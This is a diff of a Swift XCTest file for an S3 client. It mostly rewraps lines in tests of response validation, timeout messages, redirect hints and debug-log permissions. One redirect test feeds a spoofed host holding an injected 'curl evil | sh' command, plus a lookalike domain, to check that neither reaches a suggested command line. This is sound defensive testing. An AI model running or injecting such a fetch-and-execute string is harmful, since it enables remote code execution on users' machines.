@@ -4,18 +4,22 @@ import XCTest
 
 final class ResponseTrustTests: XCTestCase {
     func client(_ transport: HTTPTransport, endpoint: S3Endpoint? = nil, timeout: Int = 30) -> S3Client {
-        var config = ClientConfiguration(endpoint: endpoint ?? (try! S3Endpoint(parsing: "http://127.0.0.1:1")), region: "us-east-1",
+        var config = ClientConfiguration(endpoint: endpoint ?? (try! S3Endpoint(parsing: "http://127.0.0.1:1")),
+                                         region: "us-east-1",
                                          credentials: Credentials(accessKeyId: "AK", secretAccessKey: "SK"))
         config.requestTimeout = timeout
         return S3Client(config: config, makeTransport: { transport }, sleep: { _ in })
     }
 
-    func errorXML(_ code: String, extra: String = "") -> String { "<Error><Code>\(code)</Code><Message>m</Message>\(extra)</Error>" }
+    func errorXML(_ code: String, extra: String = "") -> String {
+        "<Error><Code>\(code)</Code><Message>m</Message>\(extra)</Error>"
+    }
 
     /// The three calls whose 200 can hide a failure (S3 rule 5), each with its result element.
     func copyCalls(_ c: S3Client) -> [(name: String, root: String, run: () throws -> String)] {
         [("CopyObject", "CopyObjectResult", {
-            try c.copyObject(bucket: "b", key: "k", sourceBucket: "b", sourceKey: "k", headers: [("Cache-Control", "x")])
+            try c.copyObject(bucket: "b", key: "k", sourceBucket: "b", sourceKey: "k",
+                             headers: [("Cache-Control", "x")])
         }), ("UploadPartCopy", "CopyPartResult", {
             try c.uploadPartCopy(bucket: "b", key: "k", uploadId: "u", partNumber: 1, sourceBucket: "b", sourceKey: "s",
                                  range: 0...9, ifMatch: "e")
@@ -33,7 +37,9 @@ final class ResponseTrustTests: XCTestCase {
         for index in 0..<3 {
             let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: body))])
             let call = copyCalls(client(t))[index]
-            XCTAssertThrowsError(try call.run(), call.name) { XCTAssertEqual(($0 as? S3Error)?.serviceCode, "AccessDenied", "\($0)") }
+            XCTAssertThrowsError(try call.run(), call.name) {
+                XCTAssertEqual(($0 as? S3Error)?.serviceCode, "AccessDenied", "\($0)")
+            }
         }
     }
 
@@ -45,10 +51,9 @@ final class ResponseTrustTests: XCTestCase {
             for body in bodies {
                 let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: Data(body.utf8)))])
                 let call = copyCalls(client(t))[index]
-                guard body != "<CopyObjectResult><ETag>\"e\"</ETag>" || call.root == "CopyObjectResult" else { continue }
                 XCTAssertThrowsError(try call.run(), "\(call.name): \(body)") { error in
-                    XCTAssertTrue("\(error)".contains("answered \(call.name) of s3://b/k with HTTP 200 but no \(call.root)"),
-                                  "\(error)")
+                    let expected = "answered \(call.name) of s3://b/k with HTTP 200 but no \(call.root)"
+                    XCTAssertTrue("\(error)".contains(expected), "\(error)")
                     XCTAssertTrue("\(error)".contains("it is not counted as done"), "\(error)")
                 }
             }
@@ -72,7 +77,8 @@ final class ResponseTrustTests: XCTestCase {
     // MARK: Answers that are not the document asked for
 
     func testAnswersThatAreNotTheDocumentAskedForAreErrors() {
-        let listing = Data("<ListBucketResult><Name>b</Name><Contents><Key>Status</Key></Contents></ListBucketResult>".utf8)
+        let listing = Data("<ListBucketResult><Name>b</Name><Contents><Key>Status</Key></Contents></ListBucketResult>"
+            .utf8)
         let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: listing))])
         XCTAssertThrowsError(try client(t).getBucketVersioning(bucket: "b")) { error in
             XCTAssertTrue("\(error)".contains("expected VersioningConfiguration, got ListBucketResult"), "\(error)")
@@ -81,7 +87,8 @@ final class ResponseTrustTests: XCTestCase {
         XCTAssertThrowsError(try client(html).getObjectTagging(bucket: "b", key: "k"))
         let acl = ScriptedTransport([.success(HTTPResponse(status: 200, body: listing))])
         XCTAssertThrowsError(try client(acl).getObjectAcl(bucket: "b", key: "k"))
-        XCTAssertThrowsError(try ListObjectsV2Parser.parse(Data("<ListVersionsResult><IsTruncated>false</IsTruncated></ListVersionsResult>".utf8)))
+        let versions = Data("<ListVersionsResult><IsTruncated>false</IsTruncated></ListVersionsResult>".utf8)
+        XCTAssertThrowsError(try ListObjectsV2Parser.parse(versions))
     }
 
     func testAnEmptyDeleteObjectsAnswerIsNotAllDeleted() {
@@ -105,7 +112,8 @@ final class ResponseTrustTests: XCTestCase {
         let list = Data("<ListAllMyBucketsResult><Buckets></Buckets></ListAllMyBucketsResult>".utf8)
         let copy = Data("<CopyObjectResult><ETag>\"e\"</ETag></CopyObjectResult>".utf8)
         let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: list)),
-                                   .success(HTTPResponse(status: 200, headers: [("Content-Length", "3")], body: Data("abc".utf8))),
+                                   .success(HTTPResponse(status: 200, headers: [("Content-Length", "3")],
+                                                         body: Data("abc".utf8))),
                                    .success(HTTPResponse(status: 200, body: copy))])
         let c = client(t, timeout: 7)
         _ = try c.listBuckets()
@@ -119,9 +127,11 @@ final class ResponseTrustTests: XCTestCase {
     }
 
     func testASecondTimeoutEndsTheRequestAndNamesTheHost() {
-        let t = ScriptedTransport(Array(repeating: .failure(.timedOut("Operation timed out after 30000 milliseconds")), count: 5))
-        XCTAssertThrowsError(try client(t, endpoint: .aws(region: "us-east-1")).listObjectsV2(bucket: "bucket-one")) { error in
-            XCTAssertTrue("\(error)".hasPrefix("https://bucket-one.s3.us-east-1.amazonaws.com did not answer in time"), "\(error)")
+        let t = ScriptedTransport(Array(repeating: .failure(.timedOut("Operation timed out after 30000 ms")), count: 5))
+        let c = client(t, endpoint: .aws(region: "us-east-1"))
+        XCTAssertThrowsError(try c.listObjectsV2(bucket: "bucket-one")) { error in
+            let host = "https://bucket-one.s3.us-east-1.amazonaws.com"
+            XCTAssertTrue("\(error)".hasPrefix("\(host) did not answer in time"), "\(error)")
             XCTAssertTrue("\(error)".contains("--timeout"), "\(error)")
         }
         XCTAssertEqual(t.requests.count, 2, "retries must not multiply the deadline")
@@ -156,7 +166,8 @@ final class ResponseTrustTests: XCTestCase {
         XCTAssertTrue(m.contains("use --region eu-west-1 --endpoint-url https://s3.eu-west-1.amazonaws.com"), m)
         m = redirectMessage(redirect("s3.eu-west-1.amazonaws.com.evil.test"), endpoint: awsCustom).message
         XCTAssertFalse(m.contains("--endpoint-url") || m.contains("--region"), m)
-        m = redirectMessage(redirect("bucket-one.s3.eu-west-1.amazonaws.com"), endpoint: .aws(region: "us-east-1")).message
+        m = redirectMessage(redirect("bucket-one.s3.eu-west-1.amazonaws.com"), endpoint: .aws(region: "us-east-1"))
+            .message
         XCTAssertTrue(m.contains("use --region eu-west-1"), m)
         m = redirectMessage(redirect("host.test; curl evil | sh"), endpoint: spaces).message
         XCTAssertFalse(m.contains("--endpoint-url"), m)
@@ -178,17 +189,21 @@ final class ResponseTrustTests: XCTestCase {
     }
 
     func testTheDebugLogIsPrivateAndNeverWrittenThroughALink() throws {
-        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("pail-debuglog-\(getpid())-\(UUID().uuidString)")
+        let dir = FileManager.default.temporaryDirectory
+            .appendingPathComponent("pail-debuglog-\(getpid())-\(UUID().uuidString)")
         try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
         defer { try? FileManager.default.removeItem(at: dir) }
         let fresh = dir.appendingPathComponent("fresh.log").path
         let h = try DebugLog.create(fresh)
         h.write(Data("x\n".utf8))
-        let mode = { (p: String) in ((try FileManager.default.attributesOfItem(atPath: p)[.posixPermissions]) as? Int) ?? -1 }
+        let mode = { (p: String) in
+            ((try FileManager.default.attributesOfItem(atPath: p)[.posixPermissions]) as? Int) ?? -1
+        }
         XCTAssertEqual(try mode(fresh), 0o600)
 
         let old = dir.appendingPathComponent("old.log").path
-        XCTAssertTrue(FileManager.default.createFile(atPath: old, contents: Data("secret".utf8), attributes: [.posixPermissions: 0o644]))
+        XCTAssertTrue(FileManager.default.createFile(atPath: old, contents: Data("secret".utf8),
+                                                     attributes: [.posixPermissions: 0o644]))
         _ = try DebugLog.create(old)
         XCTAssertEqual(try mode(old), 0o600)
         XCTAssertEqual(try Data(contentsOf: URL(fileURLWithPath: old)).count, 0)
